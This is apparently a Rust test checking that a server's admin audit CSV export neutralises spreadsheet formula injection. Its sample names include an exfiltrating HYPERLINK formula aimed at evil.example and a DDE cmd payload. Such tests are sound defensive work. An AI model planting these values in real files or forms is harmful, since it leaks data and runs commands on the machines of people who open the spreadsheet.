//! Files for spreadsheets: what somebody typed is a text there, and nothing that is worked out.

use crate::server::{ADMIN, Visitor, council};

#[test]
fn no_cell_of_a_file_is_a_formula() {
    let names = [
        "=HYPERLINK(\"https://evil.example?\"&A1)",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "＝1+1",
        "plain, with \"quotes\"",
    ];
    let people: Vec<(String, &str)> = names
        .iter()
        .enumerate()
        .map(|(index, name)| (format!("person-{index}@example.org"), *name))
        .collect();
    let mut rows = vec![(ADMIN, "=1+1", "admin")];
    rows.extend(people.iter().map(|(email, name)| (email.as_str(), *name, "county")));
    let server = council(&rows, &["--no-worker"], Vec::new());
    let (admin, _) = Visitor::with_app(server.port, ADMIN);
    let file = admin.get("/admin/audit.csv");
    assert_eq!(file.status, 200);
    let kind = file.header("content-type").unwrap_or_default();
    let way = file.header("content-disposition").unwrap_or_default();
    assert!(kind.starts_with("text/csv") && way.starts_with("attachment"), "{kind} {way}");

    let (mut cells, mut guarded) = (0, 0);
    let text = dechunked(&file.body);
    for row in csv::ReaderBuilder::new().has_headers(false).from_reader(text.as_bytes()).records() {
        for cell in &row.expect("a row") {
            let is_formula = cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n', '＝']);
            assert!(!is_formula, "{cell:?}");
            cells += 1;
            guarded += usize::from(cell.starts_with('\''));
        }
    }
    assert!(cells > 80 && guarded > 0, "{cells} cells, {guarded} of them guarded:\n{text}");
}

/// A body that came in pieces, as one.
fn dechunked(body: &str) -> String {
    let (mut text, mut rest) = (String::new(), body);
    while let Some((size, after)) = rest.split_once("\r\n") {
        let size = usize::from_str_radix(size.trim(), 16).expect("the size of a piece");
        let Some((piece, more)) = after.split_at_checked(size) else { break };
        text.push_str(piece);
        rest = more.trim_start_matches("\r\n");
    }
    text
}
